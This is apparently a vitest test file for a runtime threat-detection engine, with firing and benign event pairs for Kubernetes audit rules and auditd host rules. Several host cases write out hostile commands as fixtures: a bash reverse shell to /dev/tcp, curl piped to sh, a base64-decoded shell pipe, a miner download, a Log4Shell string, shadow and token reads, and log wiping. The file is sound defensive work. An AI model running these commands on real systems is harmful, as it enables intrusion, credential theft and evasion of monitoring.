import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { corpusPath } from '../../../test/corpus.js';
import { Engine } from '../engine.js';
import type { RuntimeEvent } from '../event.js';
import { ThreatIntel } from '../intel.js';
import { applyRuleFile, defaultRuleSet, type UserRuleFile } from '../rule-set.js';
import { RULE_FILES, RULES } from './index.js';
import {
  connect,
  docker,
  exec,
  file,
  k8s,
  pod,
  record,
  role,
  service,
  syscall,
} from './test-support/events.js';
import { ruleShape } from './types.js';

/** Catalogue ids, read from the catalogue itself. */
const CATALOGUE = readFileSync(corpusPath('..', 'reference', 'runtime-detections.md'), 'utf8');
const CATALOGUE_IDS = [
  ...new Set([...CATALOGUE.matchAll(/^\| (RT-(?:K8S|HOST|DKR)-A?\d{2}) \|/gm)].map((m) => m[1]!)),
];

const manifest = (...p: string[]) => parse(readFileSync(corpusPath('manifests', ...p), 'utf8'));
const C = { container: 'abc123def456' };

interface Case {
  fire: RuntimeEvent[];
  benign: RuntimeEvent[];
  config?: UserRuleFile;
  intel?: string;
}

const web = (pid: number) =>
  exec(['nginx', '-g', 'daemon off;'], { pid, ppid: 1, exe: '/usr/sbin/nginx', uid: 33, euid: 33 });
const db = (pid: number) =>
  exec(['postgres', '-D', '/var/lib/postgresql'], {
    pid,
    ppid: 1,
    exe: '/usr/lib/postgresql/16/bin/postgres',
  });
const many = (n: number, f: (i: number) => RuntimeEvent) => Array.from({ length: n }, (_, i) => f(i));
const lb = (spec: Record<string, unknown>, meta: Record<string, unknown>, ns = 'default') =>
  service({ type: 'LoadBalancer', ...spec }, meta, ns);

const CASES: Record<string, Case> = {
  'RT-K8S-01': {
    fire: [
      lb(
        { selector: { 'k8s-app': 'kubernetes-dashboard' }, ports: [{ port: 443 }] },
        { name: 'dash' },
        'kubernetes-dashboard',
      ),
    ],
    benign: [
      service(
        { type: 'ClusterIP', selector: { 'k8s-app': 'kubernetes-dashboard' } },
        { name: 'dash' },
        'kubernetes-dashboard',
      ),
    ],
  },
  'RT-K8S-02': {
    fire: [
      k8s({ resource: 'namespaces', name: 'kubeflow' }),
      lb({ selector: { istio: 'ingressgateway' } }, { name: 'istio-ingressgateway' }, 'istio-system'),
    ],
    benign: [lb({ selector: { istio: 'ingressgateway' } }, { name: 'istio-ingressgateway' }, 'istio-system')],
  },
  'RT-K8S-03': {
    fire: [
      lb({ selector: { app: 'weave-scope' }, ports: [{ port: 80, targetPort: 4040 }] }, { name: 'scope' }),
    ],
    benign: [
      lb(
        {
          selector: { app: 'weave-scope' },
          ports: [{ port: 80, targetPort: 4040 }],
          loadBalancerSourceRanges: ['10.1.0.0/24'],
        },
        { name: 'scope' },
      ),
    ],
  },
  'RT-K8S-04': {
    fire: [lb({ selector: { app: 'redis' }, ports: [{ port: 6379 }] }, { name: 'cache' })],
    benign: [lb({ selector: { app: 'web' }, ports: [{ port: 80 }] }, { name: 'web' })],
  },
  'RT-K8S-05': {
    fire: [
      k8s({
        resource: 'deployments',
        ns: 'db',
        name: 'pg',
        requestObject: {
          kind: 'Deployment',
          metadata: { name: 'pg' },
          spec: {
            template: {
              metadata: { labels: { app: 'postgres' } },
              spec: {
                containers: [
                  {
                    name: 'pg',
                    image: 'postgres:16',
                    env: [{ name: 'POSTGRES_HOST_AUTH_METHOD', value: 'trust' }],
                  },
                ],
              },
            },
          },
        },
      }),
      lb({ selector: { app: 'postgres' }, ports: [{ port: 5432 }] }, { name: 'postgres' }, 'db'),
    ],
    benign: [
      k8s({
        resource: 'deployments',
        ns: 'db',
        name: 'pg',
        requestObject: {
          kind: 'Deployment',
          metadata: { name: 'pg' },
          spec: {
            template: {
              metadata: { labels: { app: 'postgres' } },
              spec: {
                containers: [
                  {
                    name: 'pg',
                    image: 'postgres:16',
                    env: [{ name: 'POSTGRES_HOST_AUTH_METHOD', value: 'scram-sha-256' }],
                  },
                ],
              },
            },
          },
        },
      }),
      lb({ selector: { app: 'postgres' }, ports: [{ port: 5432 }] }, { name: 'postgres' }, 'db'),
    ],
  },
  'RT-K8S-06': {
    fire: [
      lb(
        { selector: { app: 'postgres' }, ports: [{ port: 5432 }], loadBalancerSourceRanges: ['10.0.0.0/8'] },
        { name: 'postgres' },
      ),
    ],
    benign: [
      lb(
        {
          selector: { app: 'postgres' },
          ports: [{ port: 5432 }],
          loadBalancerSourceRanges: ['203.0.113.0/24'],
        },
        { name: 'postgres' },
      ),
    ],
  },
  'RT-K8S-07': {
    fire: [service({ type: 'NodePort', ports: [{ port: 80, nodePort: 30080 }] })],
    benign: [service({ type: 'ClusterIP' })],
  },
  'RT-K8S-08': {
    fire: [
      k8s({
        resource: 'pods',
        ns: 'default',
        name: 'nginx',
        requestObject: {
          ...manifest('polaris', 'test', 'checks', 'runAsPrivileged', 'failure.pod.yaml'),
          spec: {
            ...manifest('polaris', 'test', 'checks', 'runAsPrivileged', 'failure.pod.yaml').spec,
            containers: [{ name: 'c', image: 'nginx', securityContext: { privileged: true } }],
          },
        },
      }),
    ],
    benign: [
      pod({
        containers: [{ name: 'c', image: 'docker.io/calico/node:v3', securityContext: { privileged: true } }],
      }),
    ],
  },
  'RT-K8S-09': {
    fire: [
      pod({
        containers: [{ name: 'c', image: 'busybox' }],
        volumes: [{ name: 'd', hostPath: { path: '/var/run/docker.sock' } }],
      }),
    ],
    benign: [
      pod({
        containers: [{ name: 'c', image: 'busybox' }],
        volumes: [{ name: 'd', hostPath: { path: '/var/log/app' } }],
      }),
    ],
  },
  'RT-K8S-10': {
    fire: [pod({ hostNetwork: true, containers: [{ name: 'c', image: 'nginx' }] })],
    benign: [pod({ hostNetwork: true, containers: [{ name: 'c', image: 'gke.gcr.io/kube-proxy:v1' }] })],
  },
  'RT-K8S-11': {
    fire: [
      k8s({
        resource: 'pods',
        ns: 'default',
        name: 'nginx',
        requestObject: manifest('polaris', 'test', 'checks', 'hostPIDSet', 'failure.yaml'),
      }),
    ],
    benign: [pod({ hostPID: false, containers: [{ name: 'c', image: 'nginx' }] })],
  },
  'RT-K8S-12': {
    fire: [pod({ hostIPC: true, containers: [{ name: 'c', image: 'nginx' }] })],
    benign: [pod({ containers: [{ name: 'c', image: 'nginx' }] })],
  },
  'RT-K8S-13': {
    fire: [pod({ containers: [{ name: 'c', image: 'evil/app:1' }] })],
    benign: [pod({ containers: [{ name: 'c', image: 'registry.example/app:1' }] })],
    config: { lists: { allowed_images: ['registry.example/app'] } },
  },
  'RT-K8S-14': {
    fire: [
      k8s({
        resource: 'deployments',
        name: 'm',
        requestObject: {
          kind: 'Deployment',
          spec: {
            template: { spec: { containers: [{ name: 'm', image: 'docker.io/metal3d/xmrig:latest' }] } },
          },
        },
      }),
    ],
    benign: [
      k8s({
        resource: 'deployments',
        name: 'm',
        requestObject: {
          kind: 'Deployment',
          spec: { template: { spec: { containers: [{ name: 'm', image: 'docker.io/library/nginx:1' }] } } },
        },
      }),
    ],
  },
  'RT-K8S-15': {
    fire: [pod({ containers: [{ name: 'c', image: 'alpine' }] }, 'kube-system')],
    benign: [pod({ containers: [{ name: 'c', image: 'sysdig/falco:0.38' }] }, 'kube-system')],
  },
  'RT-K8S-16': {
    fire: [k8s({ resource: 'serviceaccounts', ns: 'kube-system', name: 'backdoor' })],
    benign: [k8s({ resource: 'serviceaccounts', ns: 'kube-system', name: 'job-controller' })],
  },
  'RT-K8S-17': {
    fire: [
      k8s({
        resource: 'rolebindings',
        ns: 'dev',
        name: 'b',
        requestObject: { roleRef: { name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'eve' }] },
      }),
    ],
    benign: [
      k8s({
        resource: 'rolebindings',
        ns: 'dev',
        name: 'b',
        requestObject: { roleRef: { name: 'view' }, subjects: [] },
      }),
    ],
  },
  'RT-K8S-18': {
    fire: [role([{ resources: ['*'], verbs: ['get'] }])],
    benign: [role([{ resources: ['pods'], verbs: ['get'] }])],
  },
  'RT-K8S-19': {
    fire: [role([{ resources: ['pods'], verbs: ['delete'] }])],
    benign: [role([{ resources: ['pods'], verbs: ['list'] }])],
  },
  'RT-K8S-20': {
    fire: [role([{ resources: ['pods/exec'], verbs: ['get'] }])],
    benign: [role([{ resources: ['pods/log'], verbs: ['get'] }])],
  },
  'RT-K8S-21': {
    fire: [k8s({ resource: 'clusterroles', name: 'system:aggregate-to-edit', verb: 'patch', code: 200 })],
    benign: [k8s({ resource: 'clusterroles', name: 'system:coredns', verb: 'patch', code: 200 })],
  },
  'RT-K8S-22': {
    fire: [
      k8s({
        resource: 'pods',
        ns: 'default',
        name: 'web',
        sub: 'exec',
        stage: 'ResponseStarted',
        code: 101,
        requestURI: '/api/v1/namespaces/default/pods/web/exec?command=sh&container=c',
      }),
    ],
    benign: [k8s({ resource: 'pods', ns: 'default', name: 'web', sub: 'log', verb: 'get', code: 200 })],
  },
  'RT-K8S-23': {
    fire: [
      k8s({
        resource: 'pods',
        ns: 'default',
        name: 'web',
        sub: 'portforward',
        stage: 'ResponseStarted',
        requestURI: '/api/v1/namespaces/default/pods/web/portforward?ports=5432',
      }),
    ],
    benign: [k8s({ resource: 'pods', ns: 'default', name: 'web', sub: 'status', verb: 'patch' })],
  },
  'RT-K8S-24': {
    fire: [
      k8s({
        resource: 'pods',
        ns: 'default',
        name: 'web',
        sub: 'ephemeralcontainers',
        verb: 'patch',
        requestObject: {
          kind: 'Pod',
          spec: { ephemeralContainers: [{ name: 'debugger', image: 'busybox' }] },
        },
      }),
    ],
    benign: [
      k8s({
        resource: 'pods',
        ns: 'default',
        name: 'web',
        sub: 'ephemeralcontainers',
        verb: 'get',
        code: 200,
      }),
    ],
  },
  'RT-K8S-25': {
    fire: [
      k8s({
        resource: 'mutatingwebhookconfigurations',
        name: 'w',
        apiVersion: 'audit.k8s.io/v1',
        requestObject: { webhooks: [{ name: 'x.example.com' }] },
      }),
    ],
    benign: [k8s({ resource: 'mutatingwebhookconfigurations', name: 'w', verb: 'get', code: 200 })],
  },
  'RT-K8S-26': {
    fire: [
      k8s({
        resource: 'configmaps',
        ns: 'kube-system',
        name: 'coredns',
        verb: 'update',
        code: 200,
        user: { username: 'eve' },
      }),
    ],
    benign: [
      k8s({
        resource: 'configmaps',
        ns: 'kube-system',
        name: 'coredns',
        verb: 'update',
        code: 200,
        user: { username: 'system:addon-manager' },
      }),
    ],
  },
  'RT-K8S-27': {
    fire: [
      k8s({
        resource: 'events',
        ns: 'default',
        verb: 'deletecollection',
        code: 200,
        user: { username: 'eve' },
      }),
    ],
    benign: [
      k8s({
        resource: 'events',
        ns: 'default',
        verb: 'deletecollection',
        code: 200,
        user: { username: 'system:kube-controller-manager' },
      }),
    ],
  },
  'RT-K8S-28': {
    fire: [
      k8s({
        resource: 'configmaps',
        ns: 'default',
        name: 'cfg',
        requestObject: { data: { db_password: 'x', password: 'hunter2' } },
      }),
    ],
    benign: [
      k8s({
        resource: 'configmaps',
        ns: 'default',
        name: 'cfg',
        requestObject: { data: { log_level: 'debug' } },
      }),
    ],
  },
  'RT-K8S-29': {
    fire: [
      k8s({
        resource: 'pods',
        verb: 'list',
        code: 200,
        user: { username: 'system:anonymous' },
        requestURI: '/api/v1/pods',
      }),
    ],
    benign: [
      k8s({
        resource: 'pods',
        verb: 'get',
        code: 200,
        user: { username: 'system:anonymous' },
        objectRef: {},
        requestURI: '/healthz?verbose',
      }),
    ],
  },
  'RT-K8S-30': {
    fire: [k8s({ resource: 'pods', verb: 'list', code: 200, user: { username: 'mallory' } })],
    benign: [k8s({ resource: 'pods', verb: 'list', code: 200, user: { username: 'kubernetes-admin' } })],
  },
  'RT-K8S-31': {
    fire: [k8s({ resource: 'pods', verb: 'list', code: 200, user: { username: 'kubernetes-admin' } })],
    benign: [k8s({ resource: 'pods', verb: 'list', code: 200, user: { username: 'alice' } })],
    config: { rules: [{ id: 'RT-K8S-31', enabled: true }], lists: { allowed_users: ['alice'] } },
  },
  'RT-K8S-32': {
    fire: [k8s({ resource: 'namespaces', name: 'miner' })],
    benign: [k8s({ resource: 'namespaces', name: 'default' })],
  },
  'RT-K8S-33': {
    fire: [k8s({ resource: 'pods', verb: 'list', code: 200, sourceIPs: ['127.66.0.9'] })],
    benign: [k8s({ resource: 'pods', verb: 'list', code: 200, sourceIPs: ['127.0.0.1'] })],
    intel: '# feed: test-tor category: proxy\n127.66.0.0/16\n',
  },
  'RT-K8S-34': {
    fire: [k8s({ resource: 'pods', verb: 'list', code: 200, userAgent: 'kube-hunter/0.6' })],
    benign: [k8s({ resource: 'pods', verb: 'list', code: 200, userAgent: 'kubectl/v1.30' })],
  },
  'RT-K8S-35': {
    fire: [
      k8s({
        resource: 'pods',
        verb: 'list',
        code: 200,
        user: { username: 'system:serviceaccount:app:sa' },
        at: 0,
      }),
      k8s({
        resource: 'secrets',
        ns: 'kube-system',
        verb: 'list',
        code: 200,
        user: { username: 'system:serviceaccount:app:sa' },
        at: 10_000,
      }),
    ],
    benign: [
      k8s({
        resource: 'pods',
        verb: 'list',
        code: 200,
        user: { username: 'system:serviceaccount:app:sa' },
        at: 0,
      }),
      k8s({
        resource: 'pods',
        verb: 'list',
        code: 200,
        user: { username: 'system:serviceaccount:app:sa' },
        at: 10_000,
      }),
    ],
    config: { lists: { sa_learning_ms: 5000 } },
  },
  'RT-K8S-36': {
    fire: [
      k8s({
        resource: 'secrets',
        ns: 'default',
        name: 's',
        verb: 'get',
        code: 200,
        user: { username: 'alice' },
      }),
    ],
    benign: [
      k8s({
        resource: 'secrets',
        ns: 'default',
        name: 's',
        verb: 'get',
        code: 200,
        user: { username: 'system:node:n1' },
      }),
    ],
  },
  'RT-K8S-37': {
    fire: [k8s({ resource: 'secrets', ns: 'default', name: 's', verb: 'get', code: 403 })],
    benign: [k8s({ resource: 'secrets', ns: 'default', verb: 'list', code: 403 })],
  },
  'RT-K8S-38': {
    fire: ['a', 'b', 'c'].map((ns) =>
      k8s({ resource: 'secrets', ns, verb: 'list', code: 403, user: { username: 'eve' } }),
    ),
    benign: [k8s({ resource: 'secrets', ns: 'a', verb: 'list', code: 403, user: { username: 'eve' } })],
  },
  'RT-K8S-39': {
    fire: [
      k8s({
        resource: 'ingresses',
        ns: 'default',
        name: 'i',
        requestObject: { spec: { rules: [{ host: 'a.example' }] } },
      }),
    ],
    benign: [
      k8s({
        resource: 'ingresses',
        ns: 'default',
        name: 'i',
        requestObject: { spec: { tls: [{ hosts: ['a.example'] }] } },
      }),
    ],
  },
  'RT-K8S-40': {
    fire: [k8s({ resource: 'nodes', name: 'rogue', code: 201 })],
    benign: [k8s({ resource: 'nodes', name: 'node-1', code: 201 })],
    config: { lists: { allowed_nodes: ['node-1'] } },
  },
  'RT-K8S-41': {
    fire: [k8s({ resource: 'nodes', name: 'rogue', code: 403 })],
    benign: [k8s({ resource: 'nodes', name: 'node-1', code: 403 })],
    config: { lists: { allowed_nodes: ['node-1'] } },
  },
  'RT-K8S-42': {
    fire: [k8s({ resource: 'pods', ns: 'asc-alerttest-662jfi039n', verb: 'list', code: 200 })],
    benign: [k8s({ resource: 'pods', ns: 'default', verb: 'list', code: 200 })],
  },
  'RT-K8S-43': {
    fire: [k8s({ resource: 'pods', verb: 'list', code: 200 })],
    benign: [k8s({ resource: 'pods', verb: 'list', code: 200, stage: 'RequestReceived' })],
    config: { rules: [{ id: 'RT-K8S-43', enabled: true }] },
  },
  'RT-K8S-44': {
    fire: [role([{ resources: ['secrets'], verbs: ['get', 'list'] }])],
    benign: [role([{ resources: ['configmaps'], verbs: ['get', 'list'] }])],
  },
  // ---- audit trail ----
  'RT-K8S-A01': {
    fire: [k8s({ resource: 'deployments', ns: 'd', name: 'x' })],
    benign: [k8s({ resource: 'deployments', ns: 'd', name: 'x', code: 409 })],
  },
  'RT-K8S-A02': {
    fire: [k8s({ resource: 'deployments', ns: 'd', name: 'x', verb: 'delete', code: 200 })],
    benign: [k8s({ resource: 'deployments', ns: 'd', name: 'x', verb: 'delete', code: 404 })],
  },
  'RT-K8S-A03': {
    fire: [k8s({ resource: 'services', ns: 'd', name: 'x' })],
    benign: [k8s({ resource: 'services', ns: 'd', name: 'x', verb: 'update', code: 200 })],
  },
  'RT-K8S-A04': {
    fire: [k8s({ resource: 'services', ns: 'd', name: 'x', verb: 'delete', code: 200 })],
    benign: [k8s({ resource: 'services', ns: 'd', name: 'x', verb: 'get', code: 200 })],
  },
  'RT-K8S-A05': {
    fire: [k8s({ resource: 'configmaps', ns: 'd', name: 'x' })],
    benign: [k8s({ resource: 'configmaps', ns: 'd', name: 'x', stage: 'RequestReceived' })],
  },
  'RT-K8S-A06': {
    fire: [k8s({ resource: 'configmaps', ns: 'd', name: 'x', verb: 'delete', code: 200 })],
    benign: [k8s({ resource: 'configmaps', ns: 'd', name: 'x', verb: 'delete', code: 403 })],
  },
  'RT-K8S-A07': {
    fire: [k8s({ resource: 'namespaces', name: 'x' })],
    benign: [k8s({ resource: 'namespaces', name: 'x', verb: 'get', code: 200 })],
  },
  'RT-K8S-A08': {
    fire: [k8s({ resource: 'namespaces', name: 'x', verb: 'delete', code: 200 })],
    benign: [
      k8s({
        resource: 'namespaces',
        name: 'x',
        verb: 'delete',
        code: 200,
        user: { username: 'system:serviceaccount:kube-system:namespace-controller' },
      }),
    ],
  },
  'RT-K8S-A09': {
    fire: [k8s({ resource: 'serviceaccounts', ns: 'd', name: 'x' })],
    benign: [k8s({ resource: 'serviceaccounts', ns: 'd', name: 'x', sub: 'token' })],
  },
  'RT-K8S-A10': {
    fire: [k8s({ resource: 'serviceaccounts', ns: 'd', name: 'x', verb: 'delete', code: 200 })],
    benign: [k8s({ resource: 'serviceaccounts', ns: 'd', name: 'x', verb: 'patch', code: 200 })],
  },
  'RT-K8S-A11': {
    fire: [k8s({ resource: 'roles', ns: 'd', name: 'x', requestObject: { rules: [] } })],
    benign: [k8s({ resource: 'roles', ns: 'd', name: 'x', verb: 'list', code: 200 })],
  },
  'RT-K8S-A12': {
    fire: [k8s({ resource: 'roles', ns: 'd', name: 'x', verb: 'delete', code: 200 })],
    benign: [k8s({ resource: 'roles', ns: 'd', name: 'x', verb: 'delete', code: 500 })],
  },
  'RT-K8S-A13': {
    fire: [k8s({ resource: 'clusterroles', name: 'x', requestObject: { rules: [] } })],
    benign: [k8s({ resource: 'clusterroles', name: 'x', verb: 'watch', code: 200 })],
  },
  'RT-K8S-A14': {
    fire: [k8s({ resource: 'clusterroles', name: 'x', verb: 'delete', code: 200 })],
    benign: [k8s({ resource: 'clusterroles', name: 'x', verb: 'get', code: 200 })],
  },
  'RT-K8S-A15': {
    fire: [
      k8s({ resource: 'rolebindings', ns: 'd', name: 'x', requestObject: { roleRef: { name: 'view' } } }),
    ],
    benign: [
      k8s({
        resource: 'rolebindings',
        ns: 'd',
        name: 'x',
        code: 403,
        requestObject: { roleRef: { name: 'view' } },
      }),
    ],
  },
  'RT-K8S-A16': {
    fire: [k8s({ resource: 'rolebindings', ns: 'd', name: 'x', verb: 'delete', code: 200 })],
    benign: [k8s({ resource: 'rolebindings', ns: 'd', name: 'x', verb: 'list', code: 200 })],
  },
  'RT-K8S-A17': {
    fire: [k8s({ resource: 'clusterrolebindings', name: 'x', requestObject: { roleRef: { name: 'view' } } })],
    benign: [k8s({ resource: 'clusterrolebindings', name: 'x', verb: 'get', code: 200 })],
  },
  'RT-K8S-A18': {
    fire: [k8s({ resource: 'clusterrolebindings', name: 'x', verb: 'delete', code: 200 })],
    benign: [k8s({ resource: 'clusterrolebindings', name: 'x', verb: 'delete', code: 404 })],
  },
  'RT-K8S-A19': {
    fire: [k8s({ resource: 'secrets', ns: 'd', name: 'x' })],
    benign: [k8s({ resource: 'secrets', ns: 'kube-system', name: 'x' })],
  },
  'RT-K8S-A20': {
    fire: [k8s({ resource: 'secrets', ns: 'd', name: 'x', verb: 'delete', code: 200 })],
    benign: [
      k8s({
        resource: 'secrets',
        ns: 'd',
        name: 'x',
        verb: 'delete',
        code: 200,
        user: { username: 'system:serviceaccount:d:ctl' },
      }),
    ],
  },
  // ---- host (auditd) ----
  'RT-HOST-01': {
    fire: [web(700), exec(['sh', '-c', 'id'], { ppid: 700 })],
    benign: [exec(['bash', '-c', 'id'], { ppid: 701 })],
  },
  'RT-HOST-02': {
    fire: [exec(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'])],
    benign: [exec(['bash', '-c', 'echo hi > /tmp/out'])],
  },
  'RT-HOST-03': { fire: [exec(['/usr/sbin/sshd', '-D'], C)], benign: [exec(['/usr/sbin/sshd', '-D'])] },
  'RT-HOST-04': {
    fire: [exec(['./xmrig', '-o', 'pool:3333'], { exe: '/tmp/xmrig' })],
    benign: [exec(['./xmllint', 'a.xml'], { exe: '/usr/bin/xmllint' })],
  },
  'RT-HOST-05': { fire: [connect('203.0.113.9', 3333)], benign: [connect('10.0.0.9', 3333)] },
  'RT-HOST-06': {
    fire: [exec(['wget', 'https://github.com/xmrig/xmrig/releases/download/v6/xmrig.tar.gz'])],
    benign: [exec(['wget', 'https://nginx.org/download/nginx.tar.gz'])],
  },
  'RT-HOST-07': {
    fire: [exec(['sh', '-c', 'modprobe msr'], { auid: 1000 })],
    benign: [exec(['modprobe', 'msr'], { auid: 0, uid: 0 })],
  },
  'RT-HOST-08': { fire: [exec(['pkill', '-f', 'kdevtmpfsi'])], benign: [exec(['pkill', '-f', 'nginx'])] },
  'RT-HOST-09': {
    fire: [connect('127.66.6.6', 443)],
    benign: [connect('127.0.0.1', 443)],
    intel: '127.66.6.6\n',
  },
  'RT-HOST-10': {
    fire: [exec(['curl', '-o', 'x', 'http://evil.example/x'])],
    benign: [exec(['curl', '-o', 'x', 'http://good.example/x'])],
    intel: 'evil.example\n',
  },
  'RT-HOST-11': {
    fire: [exec(['wget', '-O', '/tmp/.x', 'http://203.0.113.5/x'])],
    benign: [exec(['wget', '-O', 'x', 'http://10.0.0.5/x'])],
  },
  'RT-HOST-12': {
    fire: [exec(['sh', '-c', 'curl -s http://x.example/i.sh | sh'])],
    benign: [exec(['sh', '-c', 'curl -s http://x.example/i.sh -o i.sh'])],
  },
  'RT-HOST-13': {
    fire: [exec(['rm', '-f', '/root/.bash_history'])],
    benign: [exec(['rm', '-f', '/root/.bashrc.bak'])],
  },
  'RT-HOST-14': {
    fire: [exec(['rm', '-rf', '/var/log/auth.log'])],
    benign: [exec(['ls', '/var/log/auth.log'])],
  },
  'RT-HOST-15': {
    fire: [record('ADD_USER', { pid: '5', acct: 'eve', exe: '/usr/sbin/useradd', res: 'success' })],
    benign: [record('ADD_USER', { pid: '5', acct: 'eve', res: 'failed' })],
  },
  'RT-HOST-16': {
    fire: [exec(['usermod', '-aG', 'sudo', 'eve'])],
    benign: [exec(['usermod', '-aG', 'audio', 'eve'])],
  },
  'RT-HOST-17': {
    fire: [exec(['usermod', '-p', '$6$salt$hash', 'eve'])],
    benign: [exec(['usermod', '-s', '/bin/bash', 'eve'])],
  },
  'RT-HOST-18': {
    fire: [file('openat', '/etc/shadow', { flags: '80000' })],
    benign: [
      file('openat', '/etc/shadow', { flags: '80000', exe: '/usr/sbin/unix_chkpwd', comm: 'unix_chkpwd' }),
    ],
  },
  'RT-HOST-19': {
    fire: [exec(['grep', '-ri', 'password', '/etc'])],
    benign: [exec(['grep', '-ri', 'listen', '/etc/nginx'])],
  },
  'RT-HOST-20': {
    fire: [exec(['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], C)],
    benign: [exec(['cat', '/var/run/secrets/kubernetes.io/serviceaccount/ca.crt'], C)],
  },
  'RT-HOST-21': {
    fire: [file('openat', '/var/lib/kubelet/kubeconfig', { flags: '0' })],
    benign: [
      file('openat', '/var/lib/kubelet/kubeconfig', { flags: '0', exe: '/usr/bin/kubelet', comm: 'kubelet' }),
    ],
  },
  'RT-HOST-22': {
    fire: [file('openat', '/root/.ssh/authorized_keys', { flags: '441', tty: '(none)' })],
    benign: [
      file('openat', '/root/.ssh/authorized_keys', { flags: '0', exe: '/usr/sbin/sshd', comm: 'sshd' }),
    ],
  },
  'RT-HOST-23': { fire: [exec(['nohup', '/tmp/.hidden/run'])], benign: [exec(['nohup', '/opt/app/run'])] },
  'RT-HOST-24': {
    fire: [exec(['systemctl', 'stop', 'apt-daily-upgrade.timer'])],
    benign: [exec(['systemctl', 'status', 'apt-daily-upgrade.timer'])],
  },
  'RT-HOST-25': {
    fire: [exec(['systemctl', 'stop', 'falco'])],
    benign: [exec(['systemctl', 'restart', 'falco'])],
  },
  'RT-HOST-26': {
    fire: [exec(['iptables', '-F'])],
    benign: [exec(['iptables', '-I', 'INPUT', '-s', '45.76.145.152', '-j', 'DROP'])],
  },
  'RT-HOST-27': {
    fire: [exec(['touch', '-r', '/bin/ls', '/usr/bin/backdoor'])],
    benign: [exec(['touch', '/tmp/marker'])],
  },
  'RT-HOST-28': { fire: [syscall('unshare', '10000000', C)], benign: [syscall('unshare', '10000000')] },
  'RT-HOST-29': {
    fire: [exec(['docker', 'run', '--privileged', 'alpine'])],
    benign: [exec(['docker', 'inspect', 'alpine'])],
  },
  'RT-HOST-30': { fire: [exec(['docker', 'build', '-t', 'x', '.'])], benign: [exec(['docker', 'images'])] },
  'RT-HOST-31': { fire: [connect('169.254.169.254', 80, C)], benign: [connect('169.254.169.254', 80)] },
  'RT-HOST-32': {
    fire: [exec(['kubectl', 'get', 'secrets'], C)],
    benign: [exec(['kubectl', 'get', 'secrets'])],
  },
  'RT-HOST-33': {
    fire: [exec(['curl', 'http://kubernetes-dashboard.kubernetes-dashboard.svc/'], C)],
    benign: [exec(['curl', 'http://web.default.svc/'], C)],
  },
  'RT-HOST-34': {
    fire: ['id', 'whoami', 'uname', 'hostname', 'ps'].map((c, i) =>
      exec([c], { ppid: 800, ses: 9, at: i * 1000 }),
    ),
    benign: ['id', 'whoami', 'uname', 'hostname'].map((c, i) =>
      exec([c], { ppid: 801, ses: 10, at: i * 1000 }),
    ),
  },
  'RT-HOST-35': { fire: [exec(['nmap', '-sS', '10.0.0.0/24'])], benign: [exec(['nslookup', 'example.com'])] },
  'RT-HOST-36': {
    fire: [exec(['python3', 'secretsdump.py', 'admin@10.0.0.1'])],
    benign: [exec(['python3', 'manage.py', 'migrate'])],
  },
  'RT-HOST-37': {
    fire: [exec(['/tmp/mimipenguin.sh'], { exe: '/bin/bash' })],
    benign: [exec(['/usr/bin/passwd'])],
  },
  'RT-HOST-38': {
    fire: [file('openat', '/tmp/moni.lod', { flags: '241', nametype: 'CREATE' })],
    benign: [file('openat', '/tmp/notes.txt', { flags: '241', nametype: 'CREATE' })],
  },
  'RT-HOST-39': {
    fire: [exec(['/tmp/kinsing'], { exe: '/tmp/kinsing' })],
    benign: [exec(['/usr/bin/kingfisher'])],
  },
  'RT-HOST-40': {
    fire: [exec(['./sandcat', '-server', 'http://10.0.0.2:8888', '-group', 'red'], { exe: '/tmp/sandcat' })],
    benign: [exec(['./server', '-port', '8888'], { exe: '/opt/server' })],
  },
  'RT-HOST-41': {
    fire: [web(710), exec(['curl', `$${'{'}jndi:ldap://x.example/a}`], { ppid: 710 })],
    benign: [web(711), exec(['curl', 'http://localhost/health'], { ppid: 711 })],
  },
  'RT-HOST-42': {
    fire: [exec(['ssh', '-R', '8080:localhost:80', 'user@relay.example.com'])],
    benign: [exec(['ssh', 'user@10.0.0.2'])],
  },
  'RT-HOST-43': {
    fire: [exec(['curl', '--socks5', '127.0.0.1:9050', 'http://x.example'])],
    benign: [exec(['curl', 'http://x.example'])],
  },
  'RT-HOST-44': {
    fire: [exec(['curl', 'https://cloudflare-dns.com/dns-query?name=x.example'])],
    benign: [exec(['curl', 'https://cloudflare.com/'])],
  },
  'RT-HOST-45': {
    fire: [file('openat', '/etc/ld.so.preload', { flags: '441' })],
    benign: [file('openat', '/etc/ld.so.conf', { flags: '441' })],
  },
  'RT-HOST-46': {
    fire: [exec(['sh', '-c', 'echo ZWNobyBoaQ== | base64 -d | sh'])],
    benign: [exec(['sh', '-c', 'echo aGk= | base64 -d > /tmp/x'])],
  },
  'RT-HOST-47': {
    fire: [exec(['crontab', '/tmp/job'], { tty: '(none)' })],
    benign: [exec(['crontab', '-l'], { tty: '(none)' })],
  },
  'RT-HOST-48': {
    fire: [exec(['chattr', '+i', '/etc/passwd'])],
    benign: [exec(['chattr', '+i', '/srv/data/file'])],
  },
  'RT-HOST-49': {
    fire: [file('openat', '/root/.bashrc', { flags: '441', exe: '/usr/bin/python3' })],
    benign: [file('openat', '/root/.bashrc', { flags: '0' })],
  },
  'RT-HOST-50': {
    fire: [exec(['cat', '/root/.bash_history'], { uid: 1000 })],
    benign: [exec(['cat', '/root/.bash_history'], { uid: 0 })],
  },
  'RT-HOST-51': {
    fire: [db(720), exec(['sh', '-c', 'id'], { ppid: 720 })],
    benign: [db(721), exec(['pg_ctl', 'status'], { ppid: 721 })],
  },
  'RT-HOST-52': { fire: [exec(['nc', '-lvp', '4444'])], benign: [exec(['nc', '-zv', '10.0.0.1', '443'])] },
  'RT-HOST-53': {
    fire: [exec(['curl', 'http://abc123.oast.fun/'])],
    benign: [exec(['curl', 'http://fast.example/'])],
  },
  'RT-HOST-54': {
    fire: [exec(['/usr/bin/honeygain', '-tou-accept'])],
    benign: [exec(['/usr/bin/honeycomb'])],
  },
  'RT-HOST-55': { fire: [exec(['php', '-r', 'system("id");'])], benign: [exec(['php', '-r', 'echo 1;'])] },
  'RT-HOST-56': {
    fire: [
      exec(['/usr/bin/su', '--help'], { pid: 9001, uid: 1000, euid: 0 }),
      record('ANOM_ABEND', { pid: '9001', sig: '11' }),
    ],
    benign: [
      exec(['/usr/sbin/httpd'], { pid: 9002, uid: 48, euid: 48 }),
      record('ANOM_ABEND', { pid: '9002', sig: '11' }),
    ],
  },
